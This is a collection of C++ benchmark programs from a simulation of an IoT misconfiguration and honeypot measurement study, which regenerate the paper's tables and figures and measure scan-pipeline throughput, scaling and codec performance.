  ofh::bench::print_banner(config, "Figure 3 (scanning services)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_fig3_scanning_services(study).c_str(), stdout);
  return 0;
}
