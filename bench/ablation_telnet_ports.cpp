// Ablation: single-port (23) vs dual-port (23+2323) Telnet scanning — the
// paper's explanation for its ZMap scan finding more Telnet hosts than
// Project Sonar (§4.1.1).
#include "bench_common.h"

#include "datasets/open_datasets.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Ablation (Telnet port coverage)");

  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();

  // Count scan records on each Telnet port.
  std::uint64_t port23 = 0, port2323 = 0;
  for (const auto& record : study.scan_db().records()) {
    if (record.protocol != ofh::proto::Protocol::kTelnet) continue;
    if (record.port == 23) ++port23;
    if (record.port == 2323) ++port2323;
  }
  const auto total = study.scan_db().unique_hosts(
      ofh::proto::Protocol::kTelnet);

  std::printf("\nTelnet hosts found on port 23   : %llu\n",
              static_cast<unsigned long long>(port23));
  std::printf("Telnet hosts found on port 2323 : %llu\n",
              static_cast<unsigned long long>(port2323));
  std::printf("Total unique Telnet hosts       : %llu\n",
              static_cast<unsigned long long>(total));
  std::printf(
      "A port-23-only scan (Project Sonar's methodology) would have missed "
      "%.1f%% of the Telnet hosts.\n",
      total == 0 ? 0.0 : 100.0 * static_cast<double>(port2323) /
                             static_cast<double>(total));
  return 0;
}
