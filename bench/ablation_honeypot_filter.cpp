// Ablation: how much would deployed honeypots poison the misconfiguration
// results without the fingerprint filter? (The paper's argument for
// sanitizing Internet-scan data: 8,192 honeypots would otherwise be counted
// as misconfigured IoT systems.)
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Ablation (honeypot filtering off vs on)");

  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();

  const auto unfiltered = study.unfiltered_findings().size();
  const auto filtered = study.findings().size();
  const auto detected = study.fingerprints().honeypot_hosts.size();

  std::printf("\nMisconfiguration findings without filter : %zu\n", unfiltered);
  std::printf("Misconfiguration findings with filter    : %zu\n", filtered);
  std::printf("Honeypot hosts fingerprinted             : %zu\n", detected);
  std::printf("Result poisoning avoided                 : %.2f%%\n",
              unfiltered == 0
                  ? 0.0
                  : 100.0 * static_cast<double>(unfiltered - filtered) /
                        static_cast<double>(unfiltered));
  std::printf(
      "\nPaper: 8,192 of 1,841,085 would-be findings (0.44%%) were "
      "honeypots.\n");
  return 0;
}
