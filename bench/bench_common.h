// Shared bench-harness setup. Each table/figure binary builds a Study at a
// configurable scale, runs only the phases its experiment needs and prints
// the corresponding report with paper-reported vs expected-at-scale vs
// measured columns.
//
// Flags: --scale=N        population scale denominator (default 512)
//        --attack-scale=N attack-volume scale denominator (default 8)
//        --seed=N         study seed (default 42)
//        --threads=N      scan-phase worker threads (default 0 = one per
//                         hardware thread; output is identical for any N)
#pragma once

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "core/reports.h"
#include "core/study.h"

namespace ofh::bench {

inline core::StudyConfig parse_config(int argc, char** argv) {
  core::StudyConfig config;
  config.scan_threads = 0;  // benches default to one worker per hw thread
  double scale = 512;
  double attack_scale = 8;
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--scale=", 8) == 0) {
      scale = std::atof(argv[i] + 8);
    } else if (std::strncmp(argv[i], "--attack-scale=", 15) == 0) {
      attack_scale = std::atof(argv[i] + 15);
    } else if (std::strncmp(argv[i], "--seed=", 7) == 0) {
      config.seed = static_cast<std::uint64_t>(std::atoll(argv[i] + 7));
    } else if (std::strncmp(argv[i], "--threads=", 10) == 0) {
      config.scan_threads = static_cast<unsigned>(std::atoi(argv[i] + 10));
    }
  }
  if (scale > 0) config.population_scale = 1.0 / scale;
  if (attack_scale > 0) config.attack_scale = 1.0 / attack_scale;
  return config;
}

inline void print_banner(const core::StudyConfig& config,
                         const char* experiment) {
  std::printf(
      "openforhire bench: %s\n"
      "population scale 1/%.0f, attack scale 1/%.0f, seed %llu\n"
      "(absolute numbers scale with the simulated population; the paper\n"
      " columns give the IMC'21 measurements for shape comparison)\n",
      experiment, 1.0 / config.population_scale, 1.0 / config.attack_scale,
      static_cast<unsigned long long>(config.seed));
}

}  // namespace ofh::bench
