// Scale trajectory bench: runs the full study pipeline at a descending
// sequence of population-scale denominators and emits BENCH_scale.json —
// the checked-in record of what one machine sustains. Per scale it reports
//   hosts          population size (devices)
//   hosts_per_sec  population build+attach throughput
//   events_per_sec main-simulation events over the whole run's wall time
//   peak_rss_mb    /proc/self/status VmHWM after the run (cumulative
//                  high-water mark, so scales must run smallest-first)
//   conservation   sent == delivered + dropped + faulted  and
//                  probes == responsive + refused + unresolved
// and exits nonzero if any conservation identity fails — that is the only
// gating condition; throughput numbers are informational (scripts/ci.sh
// runs this non-gating at scale 512/64).
//
// Flags: --scales=512,64,8   denominators, run in the order given
//        --out=FILE          JSON output path (default: stdout only)
//        --full              append scale 1 (14.4M hosts) to the list
//        --seed=N            study seed (default 42)
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/study.h"
#include "obs/proc_stat.h"

namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

// Peak resident set in MiB (Linux; 0 elsewhere).
double peak_rss_mb() {
  return static_cast<double>(ofh::obs::read_proc_memory().vm_hwm_bytes) /
         (1024.0 * 1024.0);
}

struct ScaleResult {
  double denominator = 0;
  std::uint64_t hosts = 0;
  double setup_seconds = 0;
  double total_seconds = 0;
  std::uint64_t events = 0;
  double rss_mb = 0;
  bool packets_conserved = false;
  bool probes_conserved = false;
};

ScaleResult run_scale(double denominator, std::uint64_t seed) {
  ofh::core::StudyConfig config;
  config.seed = seed;
  config.population_scale = 1.0 / denominator;
  // Attack volume scales with the population so the honeynet/telescope
  // phases stress proportionally; two simulated days keep the attack
  // month from dominating the scan-phase measurement.
  config.attack_scale = 1.0 / (denominator * 4.0);
  config.attack_duration = ofh::sim::days(2);
  config.scan_threads = 0;  // one worker per hardware thread

  ScaleResult result;
  result.denominator = denominator;

  const auto start = Clock::now();
  ofh::core::Study study(config);
  study.setup_internet();
  result.setup_seconds = seconds_since(start);
  result.hosts = study.population().total_devices();

  study.run_scan();
  study.run_attack_month();
  // Drain late deliveries so inflight is zero and conservation is exact.
  study.sim().run_until(study.sim().now() + ofh::sim::hours(2));
  result.total_seconds = seconds_since(start);
  result.events = study.sim().events_processed() + study.scan_events();
  result.rss_mb = peak_rss_mb();

  const auto& fabric = study.fabric();
  result.packets_conserved =
      fabric.packets_sent() == fabric.packets_delivered() +
                                   fabric.packets_dropped() +
                                   fabric.packets_faulted();
  const auto& db = study.scan_db();
  result.probes_conserved =
      db.probes_sent() == db.responsive() + db.refused() + db.unresolved();
  return result;
}

std::string to_json(const std::vector<ScaleResult>& results) {
  std::ostringstream out;
  out << "{\n  \"bench\": \"perf_scale\",\n  \"scales\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const auto& r = results[i];
    const double hosts_per_sec =
        r.setup_seconds > 0 ? static_cast<double>(r.hosts) / r.setup_seconds
                            : 0;
    const double events_per_sec =
        r.total_seconds > 0 ? static_cast<double>(r.events) / r.total_seconds
                            : 0;
    char buffer[512];
    std::snprintf(
        buffer, sizeof buffer,
        "    {\"scale\": %.0f, \"hosts\": %llu, \"setup_seconds\": %.2f,\n"
        "     \"total_seconds\": %.2f, \"hosts_per_sec\": %.0f,\n"
        "     \"events\": %llu, \"events_per_sec\": %.0f,\n"
        "     \"peak_rss_mb\": %.1f, \"packets_conserved\": %s,\n"
        "     \"probes_conserved\": %s}%s\n",
        r.denominator, static_cast<unsigned long long>(r.hosts),
        r.setup_seconds, r.total_seconds, hosts_per_sec,
        static_cast<unsigned long long>(r.events), events_per_sec, r.rss_mb,
        r.packets_conserved ? "true" : "false",
        r.probes_conserved ? "true" : "false",
        i + 1 < results.size() ? "," : "");
    out << buffer;
  }
  out << "  ]\n}\n";
  return out.str();
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<double> scales = {512, 64, 8};
  std::string out_path;
  std::uint64_t seed = 42;
  bool full = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--scales=", 9) == 0) {
      scales.clear();
      const char* cursor = argv[i] + 9;
      while (*cursor != '\0') {
        scales.push_back(std::atof(cursor));
        cursor = std::strchr(cursor, ',');
        if (cursor == nullptr) break;
        ++cursor;
      }
    } else if (std::strncmp(argv[i], "--out=", 6) == 0) {
      out_path = argv[i] + 6;
    } else if (std::strncmp(argv[i], "--seed=", 7) == 0) {
      seed = static_cast<std::uint64_t>(std::atoll(argv[i] + 7));
    } else if (std::strcmp(argv[i], "--full") == 0) {
      full = true;
    }
  }
  if (full) scales.push_back(1);

  std::printf("perf_scale: study pipeline at %zu scale points\n",
              scales.size());
  std::vector<ScaleResult> results;
  bool conserved = true;
  for (const double denominator : scales) {
    if (!(denominator > 0)) continue;
    std::printf("-- scale 1/%.0f ...\n", denominator);
    std::fflush(stdout);
    results.push_back(run_scale(denominator, seed));
    const auto& r = results.back();
    std::printf(
        "   %llu hosts, %.1fs total, %.0f events/sec, peak RSS %.1f MB, "
        "conservation %s\n",
        static_cast<unsigned long long>(r.hosts), r.total_seconds,
        r.total_seconds > 0 ? static_cast<double>(r.events) / r.total_seconds
                            : 0,
        r.rss_mb,
        r.packets_conserved && r.probes_conserved ? "OK" : "VIOLATED");
    conserved = conserved && r.packets_conserved && r.probes_conserved;
  }

  const std::string json = to_json(results);
  std::printf("%s", json.c_str());
  if (!out_path.empty()) {
    std::ofstream out(out_path);
    out << json;
    std::printf("wrote %s\n", out_path.c_str());
  }
  return conserved ? 0 : 1;
}
