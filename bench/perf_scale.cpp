// Scale trajectory bench: runs the full study pipeline at a descending
// sequence of population-scale denominators and emits BENCH_scale.json —
// the checked-in record of what one machine sustains. Per scale it reports
//   hosts          population size (devices)
//   hosts_per_sec  population build+attach throughput
//   events_per_sec main-simulation events over the whole run's wall time
//   peak_rss_mb    /proc/self/status VmHWM after the run (cumulative
//                  high-water mark, so scales must run smallest-first)
//   conservation   sent == delivered + dropped + faulted  and
//                  probes == responsive + refused + unresolved
// and exits nonzero if any conservation identity fails — that is the only
// gating condition; throughput numbers are informational (scripts/ci.sh
// runs this non-gating at scale 512/64).
//
// A --workers list adds a second, also conservation-gated section: the
// scan phase executed on a forked dist::Coordinator fleet at 1/2/4 workers
// versus the in-process path, with the scan DB digest checked against the
// workers=0 baseline — throughput informational, byte-identity gating.
//
// Flags: --scales=512,64,8   denominators, run in the order given
//        --out=FILE          JSON output path (default: stdout only)
//        --full              append scale 1 (14.4M hosts) to the list
//        --seed=N            study seed (default 42)
//        --workers=1,2,4     distributed scan-phase rows (0 = baseline,
//                            always run first implicitly)
//        --workers-scale=64  denominator for the workers section
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "core/scan_shard.h"
#include "core/study.h"
#include "dist/coordinator.h"
#include "obs/proc_stat.h"

// fork() and the TSan runtime don't mix; under a TSan build the workers
// section degrades to the in-process path (same policy as
// tools/scenario/scenario_runner.cpp).
#if defined(__SANITIZE_THREAD__)
#define OFH_BENCH_NO_FORK 1
#endif
#if defined(__has_feature)
#if __has_feature(thread_sanitizer)
#define OFH_BENCH_NO_FORK 1
#endif
#endif

namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

// Peak resident set in MiB (Linux; 0 elsewhere).
double peak_rss_mb() {
  return static_cast<double>(ofh::obs::read_proc_memory().vm_hwm_bytes) /
         (1024.0 * 1024.0);
}

struct ScaleResult {
  double denominator = 0;
  std::uint64_t hosts = 0;
  double setup_seconds = 0;
  double total_seconds = 0;
  std::uint64_t events = 0;
  double rss_mb = 0;
  bool packets_conserved = false;
  bool probes_conserved = false;
};

ScaleResult run_scale(double denominator, std::uint64_t seed) {
  ofh::core::StudyConfig config;
  config.seed = seed;
  config.population_scale = 1.0 / denominator;
  // Attack volume scales with the population so the honeynet/telescope
  // phases stress proportionally; two simulated days keep the attack
  // month from dominating the scan-phase measurement.
  config.attack_scale = 1.0 / (denominator * 4.0);
  config.attack_duration = ofh::sim::days(2);
  config.scan_threads = 0;  // one worker per hardware thread

  ScaleResult result;
  result.denominator = denominator;

  const auto start = Clock::now();
  ofh::core::Study study(config);
  study.setup_internet();
  result.setup_seconds = seconds_since(start);
  result.hosts = study.population().total_devices();

  study.run_scan();
  study.run_attack_month();
  // Drain late deliveries so inflight is zero and conservation is exact.
  study.sim().run_until(study.sim().now() + ofh::sim::hours(2));
  result.total_seconds = seconds_since(start);
  result.events = study.sim().events_processed() + study.scan_events();
  result.rss_mb = peak_rss_mb();

  const auto& fabric = study.fabric();
  result.packets_conserved =
      fabric.packets_sent() == fabric.packets_delivered() +
                                   fabric.packets_dropped() +
                                   fabric.packets_faulted();
  const auto& db = study.scan_db();
  result.probes_conserved =
      db.probes_sent() == db.responsive() + db.refused() + db.unresolved();
  return result;
}

// ---------------------------------------------------- distributed rows

struct WorkerResult {
  unsigned workers = 0;  // 0 = in-process (ParallelRunner) baseline
  std::uint64_t hosts = 0;
  double scan_seconds = 0;
  std::uint64_t probes = 0;
  std::uint64_t records = 0;
  std::uint64_t requeues = 0;  // retry-ledger entries across the run
  std::uint64_t digest = 0;    // FNV-1a over the merged scan DB
  bool identical = false;      // scan DB digest == workers=0 baseline
  bool probes_conserved = false;
};

// FNV-1a over the serialized scan DB: enough to detect any merge
// divergence without holding two full serializations in memory.
std::uint64_t scan_db_digest(const ofh::scanner::ScanDb& db) {
  std::uint64_t hash = 1469598103934665603ull;
  const auto mix = [&hash](const void* data, std::size_t size) {
    const auto* bytes = static_cast<const unsigned char*>(data);
    for (std::size_t i = 0; i < size; ++i) {
      hash ^= bytes[i];
      hash *= 1099511628211ull;
    }
  };
  for (const auto& record : db.records()) {
    const std::uint32_t host = record.host.value();
    const auto protocol = static_cast<std::uint8_t>(record.protocol);
    const std::uint64_t when = record.when;
    mix(&host, sizeof host);
    mix(&record.port, sizeof record.port);
    mix(&protocol, sizeof protocol);
    mix(&when, sizeof when);
    mix(record.banner.data(), record.banner.size());
  }
  const std::uint64_t probes = db.probes_sent();
  mix(&probes, sizeof probes);
  return hash;
}

WorkerResult run_workers(double denominator, std::uint64_t seed,
                         unsigned workers) {
  ofh::core::StudyConfig config;
  config.seed = seed;
  config.population_scale = 1.0 / denominator;
  config.scan_threads = workers == 0 ? 0 : 1;
  config.scan_workers = workers;

  std::uint64_t requeues = 0;
#ifndef OFH_BENCH_NO_FORK
  if (workers > 0) {
    ofh::core::set_scan_shard_dispatcher(
        [workers, &requeues](
            const ofh::core::StudyConfig& study_config,
            const std::vector<ofh::core::ScanShardJob>& jobs,
            const ofh::core::ScanShardProgressSink& sink)
            -> std::optional<std::vector<ofh::core::ScanShardResult>> {
          ofh::dist::CoordinatorOptions options;
          options.fork_workers = static_cast<unsigned>(std::min<std::size_t>(
              {workers, jobs.size(), 16}));
          options.wait_workers = options.fork_workers;
          ofh::dist::Coordinator coordinator(std::move(options));
          if (!coordinator.start()) return std::nullopt;
          auto results = coordinator.run(study_config, jobs, sink);
          requeues += coordinator.retry_ledger().size();
          coordinator.shutdown();
          return results;
        });
  }
#endif

  WorkerResult result;
  result.workers = workers;
  ofh::core::Study study(config);
  study.setup_internet();
  result.hosts = study.population().total_devices();
  const auto start = Clock::now();
  study.run_scan();
  result.scan_seconds = seconds_since(start);
  ofh::core::set_scan_shard_dispatcher({});

  const auto& db = study.scan_db();
  result.probes = db.probes_sent();
  result.records = db.size();
  result.requeues = requeues;
  result.digest = scan_db_digest(db);
  result.probes_conserved =
      db.probes_sent() == db.responsive() + db.refused() + db.unresolved();
  return result;
}

std::string to_json(const std::vector<ScaleResult>& results,
                    const std::vector<WorkerResult>& worker_results,
                    double workers_scale) {
  std::ostringstream out;
  out << "{\n  \"bench\": \"perf_scale\",\n  \"scales\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const auto& r = results[i];
    const double hosts_per_sec =
        r.setup_seconds > 0 ? static_cast<double>(r.hosts) / r.setup_seconds
                            : 0;
    const double events_per_sec =
        r.total_seconds > 0 ? static_cast<double>(r.events) / r.total_seconds
                            : 0;
    char buffer[512];
    std::snprintf(
        buffer, sizeof buffer,
        "    {\"scale\": %.0f, \"hosts\": %llu, \"setup_seconds\": %.2f,\n"
        "     \"total_seconds\": %.2f, \"hosts_per_sec\": %.0f,\n"
        "     \"events\": %llu, \"events_per_sec\": %.0f,\n"
        "     \"peak_rss_mb\": %.1f, \"packets_conserved\": %s,\n"
        "     \"probes_conserved\": %s}%s\n",
        r.denominator, static_cast<unsigned long long>(r.hosts),
        r.setup_seconds, r.total_seconds, hosts_per_sec,
        static_cast<unsigned long long>(r.events), events_per_sec, r.rss_mb,
        r.packets_conserved ? "true" : "false",
        r.probes_conserved ? "true" : "false",
        i + 1 < results.size() ? "," : "");
    out << buffer;
  }
  out << "  ]";
  if (!worker_results.empty()) {
    char header[128];
    std::snprintf(header, sizeof header,
                  ",\n  \"workers_scale\": %.0f,\n  \"workers\": [\n",
                  workers_scale);
    out << header;
    for (std::size_t i = 0; i < worker_results.size(); ++i) {
      const auto& w = worker_results[i];
      char buffer[512];
      std::snprintf(
          buffer, sizeof buffer,
          "    {\"workers\": %u, \"hosts\": %llu, \"scan_seconds\": %.2f,\n"
          "     \"probes\": %llu, \"records\": %llu, \"requeues\": %llu,\n"
          "     \"identical\": %s, \"probes_conserved\": %s}%s\n",
          w.workers, static_cast<unsigned long long>(w.hosts),
          w.scan_seconds, static_cast<unsigned long long>(w.probes),
          static_cast<unsigned long long>(w.records),
          static_cast<unsigned long long>(w.requeues),
          w.identical ? "true" : "false",
          w.probes_conserved ? "true" : "false",
          i + 1 < worker_results.size() ? "," : "");
      out << buffer;
    }
    out << "  ]";
  }
  out << "\n}\n";
  return out.str();
}

}  // namespace

int main(int argc, char** argv) {
  std::vector<double> scales = {512, 64, 8};
  std::vector<unsigned> worker_counts;
  double workers_scale = 64;
  std::string out_path;
  std::uint64_t seed = 42;
  bool full = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strncmp(argv[i], "--scales=", 9) == 0) {
      scales.clear();
      const char* cursor = argv[i] + 9;
      while (*cursor != '\0') {
        scales.push_back(std::atof(cursor));
        cursor = std::strchr(cursor, ',');
        if (cursor == nullptr) break;
        ++cursor;
      }
    } else if (std::strncmp(argv[i], "--workers=", 10) == 0) {
      const char* cursor = argv[i] + 10;
      while (*cursor != '\0') {
        worker_counts.push_back(
            static_cast<unsigned>(std::atoll(cursor)));
        cursor = std::strchr(cursor, ',');
        if (cursor == nullptr) break;
        ++cursor;
      }
    } else if (std::strncmp(argv[i], "--workers-scale=", 16) == 0) {
      workers_scale = std::atof(argv[i] + 16);
    } else if (std::strncmp(argv[i], "--out=", 6) == 0) {
      out_path = argv[i] + 6;
    } else if (std::strncmp(argv[i], "--seed=", 7) == 0) {
      seed = static_cast<std::uint64_t>(std::atoll(argv[i] + 7));
    } else if (std::strcmp(argv[i], "--full") == 0) {
      full = true;
    }
  }
  if (full) scales.push_back(1);

  std::printf("perf_scale: study pipeline at %zu scale points\n",
              scales.size());
  std::vector<ScaleResult> results;
  bool conserved = true;
  for (const double denominator : scales) {
    if (!(denominator > 0)) continue;
    std::printf("-- scale 1/%.0f ...\n", denominator);
    std::fflush(stdout);
    results.push_back(run_scale(denominator, seed));
    const auto& r = results.back();
    std::printf(
        "   %llu hosts, %.1fs total, %.0f events/sec, peak RSS %.1f MB, "
        "conservation %s\n",
        static_cast<unsigned long long>(r.hosts), r.total_seconds,
        r.total_seconds > 0 ? static_cast<double>(r.events) / r.total_seconds
                            : 0,
        r.rss_mb,
        r.packets_conserved && r.probes_conserved ? "OK" : "VIOLATED");
    conserved = conserved && r.packets_conserved && r.probes_conserved;
  }

  // Distributed rows: the scan phase on a forked worker fleet versus the
  // in-process baseline (workers=0, run first). Identity is gating — a
  // merge divergence at any fleet size fails the bench like a conservation
  // violation would.
  std::vector<WorkerResult> worker_results;
  if (!worker_counts.empty() && workers_scale > 0) {
    std::printf("-- workers section at scale 1/%.0f ...\n", workers_scale);
    std::fflush(stdout);
    worker_results.push_back(run_workers(workers_scale, seed, 0));
    worker_results.back().identical = true;
    const std::uint64_t baseline_digest = worker_results.back().digest;
    for (const unsigned workers : worker_counts) {
      if (workers == 0) continue;
      worker_results.push_back(run_workers(workers_scale, seed, workers));
      worker_results.back().identical =
          worker_results.back().digest == baseline_digest;
    }
    for (const auto& w : worker_results) {
      std::printf(
          "   workers=%u: %.1fs scan, %llu records, %llu requeues, "
          "identity %s, conservation %s\n",
          w.workers, w.scan_seconds,
          static_cast<unsigned long long>(w.records),
          static_cast<unsigned long long>(w.requeues),
          w.identical ? "OK" : "DIVERGED",
          w.probes_conserved ? "OK" : "VIOLATED");
      conserved = conserved && w.identical && w.probes_conserved;
    }
  }

  const std::string json = to_json(results, worker_results, workers_scale);
  std::printf("%s", json.c_str());
  if (!out_path.empty()) {
    std::ofstream out(out_path);
    out << json;
    std::printf("wrote %s\n", out_path.c_str());
  }
  return conserved ? 0 : 1;
}
