// Microbenchmarks of the scan engine building blocks: address permutation,
// the event kernel, fabric packet delivery and banner classification.
#include <benchmark/benchmark.h>

#include "classify/misconfig_rules.h"
#include "net/fabric.h"
#include "net/host.h"
#include "scanner/permutation.h"
#include "sim/simulation.h"
#include "util/sha256.h"

namespace {

using namespace ofh;

void BM_AddressPermutation(benchmark::State& state) {
  const std::uint64_t size = static_cast<std::uint64_t>(state.range(0));
  for (auto _ : state) {
    scanner::AddressPermutation permutation(size, 42);
    std::uint64_t sum = 0;
    while (const auto index = permutation.next()) sum += *index;
    benchmark::DoNotOptimize(sum);
  }
  state.SetItemsProcessed(state.iterations() * static_cast<long>(size));
}
BENCHMARK(BM_AddressPermutation)->Arg(1 << 12)->Arg(1 << 16)->Arg(1 << 20);

void BM_SimulationEventThroughput(benchmark::State& state) {
  for (auto _ : state) {
    sim::Simulation sim;
    int counter = 0;
    for (int i = 0; i < 10'000; ++i) {
      sim.at(static_cast<sim::Time>(i), [&counter] { ++counter; });
    }
    sim.run();
    benchmark::DoNotOptimize(counter);
  }
  state.SetItemsProcessed(state.iterations() * 10'000);
}
BENCHMARK(BM_SimulationEventThroughput);

void BM_FabricUdpDelivery(benchmark::State& state) {
  for (auto _ : state) {
    sim::Simulation sim;
    net::Fabric fabric(sim, 1);
    net::Host server{util::Ipv4Addr(10, 0, 0, 1)};
    net::Host client{util::Ipv4Addr(10, 0, 0, 2)};
    server.attach(fabric);
    client.attach(fabric);
    int received = 0;
    server.udp().bind(9, [&received](const net::Datagram&) { ++received; });
    for (int i = 0; i < 1'000; ++i) {
      client.udp().send(server.address(), 9, util::to_bytes("x"));
    }
    sim.run();
    benchmark::DoNotOptimize(received);
  }
  state.SetItemsProcessed(state.iterations() * 1'000);
}
BENCHMARK(BM_FabricUdpDelivery);

void BM_MisconfigClassification(benchmark::State& state) {
  scanner::ScanRecord record;
  record.protocol = proto::Protocol::kTelnet;
  record.banner = "BusyBox v1.20.2 (2016-09-13)\r\nroot@device:~$ ";
  for (auto _ : state) {
    benchmark::DoNotOptimize(classify::classify_misconfig(record));
  }
}
BENCHMARK(BM_MisconfigClassification);

void BM_Sha256Throughput(benchmark::State& state) {
  const std::string payload(static_cast<std::size_t>(state.range(0)), 'x');
  for (auto _ : state) {
    benchmark::DoNotOptimize(util::Sha256::hex_digest(payload));
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_Sha256Throughput)->Arg(64)->Arg(4096);

}  // namespace

BENCHMARK_MAIN();
