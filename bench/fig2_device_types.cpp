// Regenerates Figure 2: top IoT device types by protocol, via ZTag-style
// banner tagging of the scan results.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Figure 2 (device types by protocol)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_scan();
  std::fputs(ofh::core::report_fig2_device_types(study).c_str(), stdout);
  return 0;
}
