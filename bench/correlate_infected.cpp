// Regenerates §5.3: the cross-experiment correlation — misconfigured devices
// (from the scan) that attacked the honeypots and/or the telescope, plus the
// additional IoT attackers identified via Censys tags. Runs the full study.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Section 5.3 (infected-host correlation)");
  ofh::core::Study study(config);
  study.run_all();
  std::fputs(ofh::core::report_correlation(study).c_str(), stdout);
  std::printf("\nGround truth: %zu infected devices planted\n",
              study.fleet().infected_device_addresses().size());
  return 0;
}
