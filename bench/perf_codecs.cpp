// Microbenchmarks of the protocol codecs (encode/decode throughput) — the
// per-packet cost floor of the scanner, honeypots and attacker fleet.
#include <benchmark/benchmark.h>

#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/http.h"
#include "proto/mqtt.h"
#include "proto/ssdp.h"
#include "proto/telnet.h"

namespace {

using namespace ofh;

void BM_TelnetDecode(benchmark::State& state) {
  util::Bytes data = {0xff, 0xfd, 0x1f};
  const auto text = util::to_bytes("login: root\r\npassword: admin\r\n$ ls\r\n");
  data.insert(data.end(), text.begin(), text.end());
  for (auto _ : state) {
    benchmark::DoNotOptimize(proto::telnet::decode(data));
  }
  state.SetBytesProcessed(state.iterations() * data.size());
}
BENCHMARK(BM_TelnetDecode);

void BM_MqttConnectRoundTrip(benchmark::State& state) {
  proto::mqtt::ConnectPacket packet;
  packet.client_id = "bench-client";
  packet.username = "user";
  packet.password = "pass";
  for (auto _ : state) {
    const auto encoded = proto::mqtt::encode_connect(packet);
    const auto header = proto::mqtt::decode_fixed_header(encoded);
    benchmark::DoNotOptimize(proto::mqtt::decode_connect(
        std::span<const std::uint8_t>(encoded).subspan(header->header_size)));
  }
}
BENCHMARK(BM_MqttConnectRoundTrip);

void BM_MqttTopicMatch(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        proto::mqtt::topic_matches("home/+/sensors/#",
                                   "home/kitchen/sensors/temp/value"));
  }
}
BENCHMARK(BM_MqttTopicMatch);

void BM_CoapRoundTrip(benchmark::State& state) {
  auto message = proto::coap::make_discovery_request(1);
  message.payload = util::to_bytes("</sensors/temp>;rt=\"ucum:Cel\"");
  for (auto _ : state) {
    const auto encoded = proto::coap::encode(message);
    benchmark::DoNotOptimize(proto::coap::decode(encoded));
  }
}
BENCHMARK(BM_CoapRoundTrip);

void BM_AmqpFrameRoundTrip(benchmark::State& state) {
  proto::amqp::StartMethod start;
  start.product = "RabbitMQ";
  start.version = "3.8.9";
  start.mechanisms = {"PLAIN", "AMQPLAIN", "ANONYMOUS"};
  proto::amqp::Frame frame;
  frame.payload = proto::amqp::encode_start(start);
  for (auto _ : state) {
    const auto encoded = proto::amqp::encode_frame(frame);
    std::size_t consumed = 0;
    benchmark::DoNotOptimize(proto::amqp::decode_frame(encoded, &consumed));
  }
}
BENCHMARK(BM_AmqpFrameRoundTrip);

void BM_SsdpResponseDecode(benchmark::State& state) {
  proto::ssdp::SearchResponse response;
  response.usn = "uuid:5a34308c-1a2c-4546-ac5d-7663dd01dca1::upnp:rootdevice";
  response.server = "Ubuntu/lucid UPnP/1.0 MiniUPnPd/1.4";
  response.location = "http://192.0.2.1:16537/rootDesc.xml";
  response.extra["Model Name"] = "H108N";
  const auto encoded = proto::ssdp::encode_response(response);
  for (auto _ : state) {
    benchmark::DoNotOptimize(proto::ssdp::decode_response(encoded));
  }
  state.SetBytesProcessed(state.iterations() * encoded.size());
}
BENCHMARK(BM_SsdpResponseDecode);

void BM_HttpRequestDecode(benchmark::State& state) {
  proto::http::Request request;
  request.method = "POST";
  request.path = "/login";
  request.headers["host"] = "192.0.2.1";
  request.headers["user-agent"] = "Mozilla/5.0";
  request.body = "user=admin&pass=admin";
  const auto encoded = util::to_string(proto::http::encode_request(request));
  for (auto _ : state) {
    benchmark::DoNotOptimize(proto::http::decode_request(encoded));
  }
  state.SetBytesProcessed(state.iterations() * encoded.size());
}
BENCHMARK(BM_HttpRequestDecode);

}  // namespace

BENCHMARK_MAIN();
