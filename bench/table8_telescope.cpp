// Regenerates Table 8: telescope suspicious traffic classification.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 8 (network telescope)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_table8_telescope(study).c_str(), stdout);
  std::printf("\nTotal telescope packets: %llu, flow tuples: %zu\n",
              static_cast<unsigned long long>(study.scope().total_packets()),
              study.scope().tuples().size());
  return 0;
}
