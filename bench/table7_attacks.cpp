// Regenerates Table 7: attack events by honeypot/protocol over the one-month
// deployment, plus the unique-source classification and Table 12 credential
// tallies from the same logs.
#include "bench_common.h"

int main(int argc, char** argv) {
  auto config = ofh::bench::parse_config(argc, argv);
  ofh::bench::print_banner(config, "Table 7 (honeypot attack events)");
  ofh::core::Study study(config);
  study.setup_internet();
  study.run_attack_month();
  std::fputs(ofh::core::report_table7_attacks(study).c_str(), stdout);
  std::fputs(ofh::core::report_table12_credentials(study).c_str(), stdout);
  return 0;
}
